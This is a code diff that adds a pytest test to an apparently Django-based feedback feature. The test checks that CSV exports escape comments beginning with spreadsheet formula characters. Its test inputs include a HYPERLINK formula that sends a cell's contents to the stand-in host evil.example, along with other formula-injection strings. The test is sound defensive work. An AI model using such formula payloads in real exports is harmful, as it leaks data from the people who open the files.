@@ -110,6 +110,31 @@ def test_feedback_downloads_as_csv_for_the_yearly_report(client, editor, feedbac
     assert "Could not find the appeal deadline" in content
 
 
+@pytest.mark.parametrize(
+    "comment",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_feedback_csv_never_carries_a_formula(client, editor, guide, comment):
+    import csv
+    import io
+
+    PageFeedbackFactory(page=guide, useful=False, comment=comment)
+    sign_in_with_mfa(client, editor)
+    response = client.get(reverse("page_feedback:index"), {"export": "csv"})
+    raw = b"".join(response.streaming_content) if response.streaming else response.content
+    rows = list(csv.reader(io.StringIO(raw.decode())))
+    cell = rows[1][4]
+    assert cell == "'" + comment  # shown as text by Excel and LibreOffice, the words kept
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
 def test_nobody_adds_or_rewrites_feedback_in_the_admin(client, moderator, feedback):
     sign_in_with_mfa(client, moderator)
     assert client.get(reverse("page_feedback:add")).status_code in (302, 403)
